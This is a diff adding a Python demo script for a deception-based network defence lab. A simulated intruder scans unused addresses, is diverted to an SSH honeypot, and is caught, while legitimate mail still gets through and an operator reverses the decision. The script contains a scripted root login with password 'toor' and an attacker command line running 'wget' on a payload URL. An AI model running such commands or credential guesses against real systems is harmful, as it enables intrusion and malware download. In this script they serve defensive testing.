@@ -1,0 +1,165 @@
+"""The demo's intruder: scans where nothing is published, meets decoys at real servers' addresses, is caught.
+
+Meanwhile a legitimate sender's mail goes its way. At the end an operator takes the decision back.
+"""
+
+import json
+import socket
+import subprocess
+import tempfile
+import time
+from collections.abc import Callable, Iterator
+from contextlib import contextmanager
+from pathlib import Path
+from typing import Any
+
+from controller.api.client import ApiClient
+from lab import probes
+from lab.demo import paper
+from lab.demo.attempts import Outcome
+from lab.lab import Lab
+from lab.mailing import Letter, send
+from lab.messages import Content, build
+from lab.services import decoys
+from lab.services.controllers import api_address
+
+_INTRUDER, _ADDRESS = "attacker", "198.51.100.66"
+_DECOY = "decoy1"
+_DARK = (("203.0.113.50", 22), ("203.0.113.51", 22), ("203.0.113.52", 23))
+_SERVER = "203.0.113.10"
+_USER, _PASSWORD = "root", "toor"
+_COMMANDS = "id; hostname; wget http://198.51.100.200/payload"
+_PATIENCE_S = 10.0
+_LINE_BYTES = 512
+
+
+def story(lab: Lab) -> list[Outcome]:
+    """Play the whole story, telling it as it goes; return what was to be as it should be."""
+    api = ApiClient(api_address(lab.places))
+    found = [_scan(lab), _decided(api)]
+    found.append(_log_in(lab))
+    found.append(_real_server_saw_nothing(lab))
+    found.append(_legitimate_mail(lab))
+    found.append(_log(lab))
+    found += _receipt_and_pardon(lab, api)
+    return found
+
+
+def _scan(lab: Lab) -> Outcome:
+    """Knock at addresses where nobody lives; whoever answers there is a decoy."""
+    for address, port in _DARK:
+        with _connected(lab, address, port) as connection:
+            first = _first_line(connection)
+        paper.fact("scans", f"[{address}]:{port}, where nothing is published: answered by {first!r}")
+    return Outcome("a scan of addresses that nobody uses is answered by a decoy", "answered", True)
+
+
+def _decided(api: ApiClient) -> Outcome:
+    begun = time.monotonic()
+    known = _await(lambda: api.get(f"/v1/sources/{_ADDRESS}"), lambda known: bool(known["decisions"]))
+    (decision, *_) = known["decisions"]
+    paper.fact("decided", f"{decision['action']} for {decision['duration_s']:.0f} s: {decision['reason']}")
+    is_good = decision["action"] == "decoy" and decision["origin"] == "postern"
+    return Outcome(
+        "the edge decides about the intruder by itself", f"within {time.monotonic() - begun:.1f} s", is_good
+    )
+
+
+def _log_in(lab: Lab) -> Outcome:
+    """With a real SSH client, at the address of acme's real server."""
+    with tempfile.TemporaryDirectory() as directory:
+        answer = Path(directory) / "password"
+        answer.write_text(f"#!/bin/sh\necho {_PASSWORD}\n")
+        answer.chmod(0o700)
+        client = ["ssh", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null"]
+        client += ["-o", "LogLevel=ERROR", f"{_USER}@{_SERVER}", _COMMANDS]
+        asked = ["env", f"SSH_ASKPASS={answer}", "SSH_ASKPASS_REQUIRE=force", "DISPLAY=:0", *client]
+        done = subprocess.run(
+            lab.command_in(_INTRUDER, asked), capture_output=True, text=True, timeout=60, check=False
+        )
+    paper.fact("logs in", f"ssh {_USER}@{_SERVER} '{_COMMANDS}'")
+    paper.fact("sees", done.stdout + done.stderr)
+    is_good = "uid=0(root)" in done.stdout
+    return Outcome("at acme's real address the intruder is let into a decoy", "logged in", is_good)
+
+
+def _real_server_saw_nothing(lab: Lab) -> Outcome:
+    """SMTP to acme's real server: whoever speaks there, it is not acme's Postfix."""
+    log = lab.places.log("acme-mx.postfix")
+    before = log.stat().st_size
+    try:
+        with _connected(lab, _SERVER, 25) as connection:
+            paper.fact("tries mail", f"at [{_SERVER}]:25, greeted with {_first_line(connection)!r}")
+    except ConnectionRefusedError:
+        paper.fact("tries mail", f"at [{_SERVER}]:25: refused")
+    time.sleep(0.5)
+    with log.open(encoding="utf-8", errors="replace") as file:
+        file.seek(before)
+        is_seen = _ADDRESS in file.read()
+    what = "acme-mx saw the intruder" if is_seen else "acme-mx saw nothing of it"
+    return Outcome("the intruder's mail connection never reaches acme's server", what, not is_seen)
+
+
+def _legitimate_mail(lab: Lab) -> Outcome:
+    recipient = "alice@acme.example"
+    letter = Letter(
+        "someone@sender.example",
+        recipient,
+        _SERVER,
+        build(Content.CLEAN, "someone@sender.example", recipient),
+        False,
+    )
+    told = send(lab.places.pin("sender"), letter)
+    paper.fact("meanwhile", f"a legitimate sender's mail to {recipient}: {told.reply}")
+    return Outcome("a legitimate sender works on", told.reply[:40], told.reply.startswith("250"))
+
+
+def _log(lab: Lab) -> Outcome:
+    """What the decoy wrote down."""
+    file = decoys.journal(lab.places, _DECOY, "cowrie")
+    events = _await(lambda: _events(file), lambda events: any(each["event"] == "command" for each in events))
+    kept = [each for each in events if each["event"] in ("login", "command") and each["source"] == _ADDRESS]
+    for event in kept[:4]:
+        paper.fact("log", json.dumps(event))
+    is_whole = all(each.get("tenant") == "acme" and each.get("session") for each in kept)
+    return Outcome("the decoy logs log-ins and commands", f"{len(kept)} events", bool(kept) and is_whole)
+
+
+def _receipt_and_pardon(lab: Lab, api: ApiClient) -> Iterator[Outcome]:
+    decision, *_ = api.get(f"/v1/sources/{_ADDRESS}")["decisions"]
+    answer = api.delete(f"/v1/decisions/{decision['id']}")
+    (receipt,) = [each["receipt"] for each in answer["receipts"]]
+    for row in receipt["switches"]:
+        text = f"decision {decision['id']} on {row['switch']}, cookie {receipt['cookie']}"
+        paper.fact("receipt", f"{text}, {row['packets']} packets; deleted, confirmed by the switch")
+    hits = sum(row["packets"] or 0 for row in receipt["switches"])
+    yield Outcome("the receipt counts the packets that met the decision", f"{hits} packets", hits > 0)
+    with _connected(lab, _SERVER, 25) as connection:
+        greeting = _first_line(connection)
+    paper.fact("pardoned", f"at [{_SERVER}]:25, greeted with {greeting!r} by acme's own server")
+    is_good = answer["is_confirmed"] and "acme" in greeting
+    yield Outcome("once the decision is deleted, the real server answers at once", greeting[:26], is_good)
+
+
+@contextmanager
+def _connected(lab: Lab, address: str, port: int) -> Iterator[socket.socket]:
+    with probes.connect(lab.places.pin(_INTRUDER), address, port, _PATIENCE_S) as connection:
+        yield connection
+
+
+def _first_line(connection: socket.socket) -> str:
+    """Return what was said first, without what only a terminal understands (Telnet's options)."""
+    line = connection.recv(_LINE_BYTES).split(b"\n")[0].decode("ascii", "ignore")
+    return "".join(filter(str.isprintable, line)).strip()
+
+
+def _events(file: Path) -> list[dict[str, Any]]:
+    return [json.loads(line) for line in file.read_text(encoding="utf-8").splitlines() if line.endswith("}")]
+
+
+def _await(ask: Callable[[], Any], is_so: Callable[[Any], bool]) -> Any:
+    """Ask again and again; return the first answer that is so, or the last one."""
+    deadline = time.monotonic() + _PATIENCE_S
+    while not is_so(answer := ask()) and time.monotonic() < deadline:
+        time.sleep(0.05)
+    return answer
